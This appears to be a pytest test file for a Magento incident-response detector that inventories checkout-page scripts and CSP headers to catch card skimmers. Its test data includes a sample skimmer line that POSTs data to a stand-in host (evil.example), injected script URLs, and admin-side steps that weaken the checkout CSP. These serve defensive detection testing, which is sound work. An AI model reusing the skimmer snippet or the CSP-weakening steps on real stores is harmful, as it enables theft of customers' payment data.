"""Payment-page integrity: the inventory of the checkout's scripts and CSP, and its changes."""

from __future__ import annotations

import json
import urllib.parse
from typing import TYPE_CHECKING, Any

import pytest

from magento_ir.detect.page_integrity import (
    _SETTLE,
    PageInventory,
    PageScript,
    _policy,
    _shape,
    compare,
    latest_baseline,
    open_checkout,
    record_baseline,
    take_inventory,
)
from magento_ir.drill._staging import HEAD_SKIMMER_SCRIPT
from magento_ir.evidence import EvidenceLog, SigningKey, read_records
from magento_ir.sandbox import Sandbox
from magento_ir.sandbox.server import SandboxServer

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.a11y.browser import Browser

URL = "https://shop.example/checkout/"
CSP = "default-src 'self'; script-src 'self' https://js.braintreegateway.com; connect-src 'self'"
APP = PageScript("https://shop.example/static/app.js", None, "a" * 64)
INLINE = PageScript(None, None, "b" * 64)


def page(
    *scripts: PageScript, csp: str | None = CSP, loaded: tuple[str, ...] = (), **headers: str
) -> PageInventory:
    found = dict(headers)
    if csp is not None:
        found["content-security-policy"] = csp
    return PageInventory(URL, scripts, loaded, found)


def _rules(found: list) -> list[tuple[str, str]]:
    return [(f.rule, f.snippet) for f in found]


def test_an_unchanged_page_has_no_findings() -> None:
    assert compare(page(APP, INLINE), page(APP, INLINE)) == []


def test_new_changed_removed_and_injected_scripts() -> None:
    skimmer = PageScript("https://evil.example/gtag.js", None, None)
    changed = PageScript(APP.src, None, "c" * 64)
    found = compare(
        page(APP, INLINE),
        page(changed, skimmer, loaded=("https://evil.example/x.js", APP.src or "")),
    )
    assert _rules(found) == [
        ("page-script-changed", f"{APP.src} sha256 {'a' * 64} -> {'c' * 64}"[:160]),
        ("page-script-added", "https://evil.example/gtag.js"),
        ("page-script-removed", f"inline:{'b' * 64}"),
        ("page-script-added", "https://evil.example/x.js"),
    ]
    assert [f.severity for f in found] == ["high", "high", "low", "high"]
    sri = PageScript(APP.src, "sha384-xyz", APP.sha256)
    assert _rules(compare(page(APP), page(sri)))[0][0] == "page-script-changed"


@pytest.mark.parametrize(
    ("after", "expected"),
    [
        (CSP, []),
        (CSP.replace("; connect-src 'self'", ""), [("page-csp-weakened", "connect-src 'self'")]),
        (CSP.replace("'self' https", "'self' 'unsafe-inline' https"),
         [("page-csp-weakened", "script-src +'unsafe-inline'")]),
        (CSP + "; frame-src 'self'", []),  # a new directive only narrows
        (CSP.replace("https://js.braintreegateway.com", ""), []),  # fewer sources: stricter
        (None, [("page-csp-weakened", CSP)]),
    ],
    ids=["same", "directive-dropped", "source-added", "directive-added", "source-removed", "gone"],
)  # fmt: skip
def test_a_weakened_csp_is_reported(after: str | None, expected: list) -> None:
    assert _rules(compare(page(csp=CSP), page(csp=after))) == expected


def test_enforced_csp_turned_report_only_is_weakened() -> None:
    report_only = page(csp=None, **{"content-security-policy-report-only": CSP})
    found = compare(page(), report_only)
    assert [(f.rule, f.title) for f in found] == [
        ("page-csp-weakened", "The payment page's CSP is only reported now")
    ]


def test_the_baseline_is_kept_in_the_evidence_log(tmp_path: Path) -> None:
    log_path = tmp_path / "evidence.log"
    with EvidenceLog.open(log_path, key=SigningKey.generate("page")) as log:
        record_baseline(log, page(APP))
        record_baseline(log, page(APP, INLINE))
        log.append("other", {"url": URL})
    assert latest_baseline(read_records(log_path), URL) == page(APP, INLINE)
    assert latest_baseline(read_records(log_path), "https://other.example/") is None


@pytest.fixture
def storefront() -> Iterator[tuple[Sandbox, str]]:
    sandbox = Sandbox()
    with SandboxServer(sandbox) as server:
        yield sandbox, server.base_url


@pytest.mark.tools
def test_checkout_in_chromium_finds_the_staged_head_skimmer(
    browser: Browser, storefront: tuple[Sandbox, str]
) -> None:
    """The served storefront's checkout, with a cart, before and after the drill's staging."""
    sandbox, base_url = storefront
    checkout = open_checkout(browser, base_url, "blue-widget.html")
    baseline = take_inventory(browser)
    assert baseline.url == checkout
    # The reference store's footer-promo block already loads an outside script; the checkout's
    # CSP is enforced, as Magento_Checkout configures it (the other pages only report).
    promo = "https://cdn-analytics.example.net/jquery.min.js"
    assert baseline.scripts == (PageScript(promo, None, None),)
    assert baseline.loaded == (promo,)
    assert set(baseline.headers) == {
        "content-security-policy",
        "x-content-type-options",
        "x-frame-options",
    }
    policy = _policy(baseline.headers["content-security-policy"])
    assert "'unsafe-inline'" not in policy["script-src"]
    with sandbox.lock:
        state = sandbox.state
        state.set_config(
            "design/head/includes",
            (state.config_value("design/head/includes") or "") + HEAD_SKIMMER_SCRIPT,
        )
    current = take_inventory(browser, checkout)
    assert current.url == checkout  # still the checkout: the cart is kept
    found = compare(baseline, current)
    assert [(f.rule, f.snippet) for f in found] == [
        ("page-script-added", "https://static-analytics.example.org/gtag.js")
    ]
    assert take_inventory(browser, checkout) == current  # stable between reads


@pytest.mark.tools
@pytest.mark.parametrize(
    ("path", "title"),
    [
        ("csp/policies/storefront_checkout_index_index/scripts/inline",
         "CSP script-src allows more"),
        ("csp/mode/storefront_checkout_index_index/report_only",
         "The payment page's CSP is only reported now"),
    ],
    ids=["inline-scripts-allowed", "report-only"],
)  # fmt: skip
def test_checkout_in_chromium_finds_a_weakened_csp(
    browser: Browser, storefront: tuple[Sandbox, str], path: str, title: str
) -> None:
    """An attacker with the admin panel lets inline scripts run on checkout, or stops enforcing."""
    sandbox, base_url = storefront
    checkout = open_checkout(browser, base_url, "blue-widget.html")
    baseline = take_inventory(browser)
    with sandbox.lock:
        sandbox.state.set_config(path, "1")
    found = compare(baseline, take_inventory(browser, checkout))
    assert [(f.rule, f.title, f.severity) for f in found] == [("page-csp-weakened", title, "high")]


def test_inline_scripts_are_compared_without_their_per_request_values() -> None:
    """Magento renders a form key, masked quote ids, times and random element names into its
    inline scripts on every request: the same script; new code in it is a new script."""
    config = (
        'window.checkoutConfig = {"formKey":"%s","quoteData":{"entity_id":"%s",'
        '"created_at":"2026-12-06 08:49:%s"}}; var elem%sArray = [];'
    )
    first = config % ("xzxh3iSlYvcCUVYd", "bGziJBJIA8qP8GfFTXt607TqteozrYbM", "17", "9HgL7fTy")
    second = config % ("abcdEFGHijklMNOP", "BmNIZ1W7NWdf9mBWBHMZlV95zZzffVfz", "27", "p0LIBzDu")
    skimmed = second + 'fetch("https://evil.example/c", {method: "POST"});'
    assert _shape(first) == _shape(second)
    assert _shape(skimmed) != _shape(second)
    # Seen on real Magento 2.4.7: SecureHtmlRenderer's random names, sometimes without a digit.
    style = "var elem%sArray = document.querySelectorAll('#checkout-loader img');"
    assert _shape(style % "Hpmh5VM2") == _shape(style % "FVPhoPPg")
    listener = "function eventListener%s () {}; var listenedElement%sArray = [];"
    assert _shape(listener % ("aBcDeFgHiJ", "aBcDeFgHiJ")) == _shape(
        listener % ("x1Y2z3W4v5", "x1Y2z3W4v5")
    )
    assert _shape(style % "FVPhoPPg") != _shape(style.replace("img", "div") % "FVPhoPPg")
    before = page(PageScript(None, None, "a" * 64, _shape(first)))
    after = page(PageScript(None, None, "c" * 64, _shape(second)))
    assert compare(before, after) == []
    injected = page(PageScript(None, None, "d" * 64, _shape(skimmed)))
    assert [f.rule for f in compare(before, injected)] == [
        "page-script-added",
        "page-script-removed",
    ]


def test_a_new_csp_nonce_is_not_a_weaker_policy() -> None:
    """Magento_Csp sends a fresh nonce on each checkout response."""
    policy = "script-src 'self' 'nonce-%s'; default-src 'self'"
    assert compare(page(csp=policy % "YzhxYm16"), page(csp=policy % "dDRqdzNk")) == []


# The settle's view of a page: RequireJS's registry (what `requirejs.s.contexts._.registry`
# holds: each module's `error`, set when its script did not load or its factory threw, and the
# modules it waits for) and jQuery's requests in flight.
THREW = {"error": {"requireType": "define"}, "depMaps": []}
NOT_LOADED = {"error": {"requireType": "scripterror"}, "depMaps": []}
LOADING: dict[str, Any] = {"depMaps": []}


def _waits_on(*ids: str) -> dict[str, Any]:
    return {"depMaps": [{"id": i} for i in ids]}


@pytest.mark.tools
@pytest.mark.parametrize(
    ("registry", "requests", "settles"),
    [
        ({}, 0, True),
        ({"skimmer": LOADING}, 0, False),  # its host never answers: inventoried at the cap
        ({}, 1, False),  # customer data, shipping rates still coming
        # Magento 2.4.7's checkout, e-mail field: its factory threw; two require() calls wait
        ({"email": THREW, "r1": _waits_on("email"), "r2": _waits_on("r1")}, 0, True),
        ({"remote": NOT_LOADED, "app": _waits_on("remote")}, 0, True),
        ({"email": THREW, "app": _waits_on("email", "pending"), "pending": LOADING}, 0, False),
    ],
    ids=["nothing", "loading", "ajax", "threw-and-waiting", "not-loaded", "threw-and-loading"],
)  # fmt: skip
def test_the_page_settles_once_nothing_that_can_still_come_is_awaited(
    browser: Browser, registry: dict[str, Any], requests: int, *, settles: bool
) -> None:
    """A failed module and the modules waiting on it never come: waiting for them took the
    whole cap on every render where Magento's checkout broke; a module still loading or a
    request in flight is waited for, up to the cap."""
    context = json.dumps({"s": {"contexts": {"_": {"registry": registry}}}})
    script = f"window.requirejs = {context}; window.jQuery = {{active: {requests}}};"
    browser.get("data:text/html," + urllib.parse.quote(f"<script>{script}</script>"))
    # Quiet takes half a second: a 300 ms cap always ends first, a 20 s one never on a settled page.
    settled = browser.run_async(_SETTLE, 20_000 if settles else 300)
    assert settled["settled"] is settles
    assert settled["failed"] == sorted(i for i, module in registry.items() if "error" in module)
    awaited = sorted(i for i, module in registry.items() if "error" not in module)
    awaited += ["jQuery.active"] if requests else []
    assert settled["pending"] == ([] if settles else awaited)
